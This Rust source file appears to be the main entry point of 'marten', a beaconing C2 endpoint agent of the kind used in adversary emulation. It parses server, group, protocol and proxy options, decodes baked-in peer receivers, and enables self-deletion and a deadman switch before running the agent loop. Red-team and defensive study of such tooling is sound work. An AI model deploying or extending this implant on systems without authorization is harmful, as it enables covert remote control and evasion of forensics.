use clap::{ArgAction, Parser};
use env_logger::Env;
use indexmap::IndexMap;
use log::{error, warn};

use marten::agent::{Agent, AgentOptions, C2Config};
use marten::contact::tunnel::TunnelRegistry;
use marten::contact::ContactRegistry;
use marten::core;
use marten::execute::ExecutorRegistry;
use marten::proxy::{self, ReceiverRegistry};

// Build-time defaults, overridable with MARTEN_* environment variables at
// compile time.
include!(concat!(env!("OUT_DIR"), "/config.rs"));

#[derive(Parser)]
#[command(about = "Resilient beaconing endpoint agent", long_about = None)]
struct Cli {
    /// C2 server URL
    #[arg(long, default_value = DEFAULT_SERVER)]
    server: String,

    /// Group this agent reports under
    #[arg(long, default_value = DEFAULT_GROUP)]
    group: String,

    /// Optionally pre-seed the agent identifier
    #[arg(long, default_value = DEFAULT_PAW)]
    paw: String,

    /// Initial C2 contact protocol
    #[arg(long, default_value = DEFAULT_C2_NAME)]
    c2: String,

    /// Delay agent start by n seconds
    #[arg(long, default_value_t = 0)]
    delay: u64,

    /// Enable verbose output
    #[arg(long, action = ArgAction::SetTrue)]
    v: bool,

    /// Enable peer-to-peer receivers
    #[arg(
        long = "listenP2P",
        default_value_t = DEFAULT_LISTEN_P2P.parse().unwrap_or(false),
        num_args = 0..=1,
        default_missing_value = "true",
        action = ArgAction::Set
    )]
    listen_p2p: bool,

    /// Optionally mark the originating link
    #[arg(long = "originLinkID", default_value_t = 0)]
    origin_link_id: i64,

    /// Outbound proxy URL for HTTP contacts
    #[arg(long = "httpProxyGateway", default_value = DEFAULT_HTTP_PROXY_GATEWAY)]
    http_proxy_gateway: String,
}

#[tokio::main]
async fn main() {
    let cli = Cli::parse();

    let default_filter = if cli.v { "info" } else { "error" };
    env_logger::Builder::from_env(Env::default().default_filter_or(default_filter)).init();

    let server = cli.server.trim_end_matches('/').to_string();
    let c2_key = if DEFAULT_C2_KEY.is_empty() {
        DEFAULT_KEY.to_string()
    } else {
        DEFAULT_C2_KEY.to_string()
    };

    let peer_seed = match proxy::decode_peer_seed(DEFAULT_ENCODED_RECEIVERS, DEFAULT_RECEIVER_KEY)
    {
        Ok(seed) => seed,
        Err(e) => {
            warn!("Could not decode baked-in peer receivers: {}", e);
            IndexMap::new()
        }
    };

    let options = AgentOptions {
        server,
        group: cli.group,
        paw: cli.paw,
        initial_delay: cli.delay,
        origin_link_id: cli.origin_link_id,
        enable_receivers: cli.listen_p2p,
        deadman_enabled: true,
        self_delete: true,
        c2: C2Config {
            c2_name: cli.c2,
            c2_key,
            http_proxy_gateway: cli.http_proxy_gateway.clone(),
            tunnel: None,
        },
        peer_seed,
    };

    let contacts = ContactRegistry::with_defaults(&cli.http_proxy_gateway);
    let tunnels = TunnelRegistry::new();
    let executors = ExecutorRegistry::with_defaults();
    let receivers = ReceiverRegistry::with_defaults();

    let agent = match Agent::new(options, contacts, tunnels, executors, receivers) {
        Ok(agent) => agent,
        Err(e) => {
            error!("Error when initializing agent: {}", e);
            std::process::exit(1);
        }
    };

    if let Err(e) = core::run(agent).await {
        error!("{}", e);
        std::process::exit(1);
    }
}
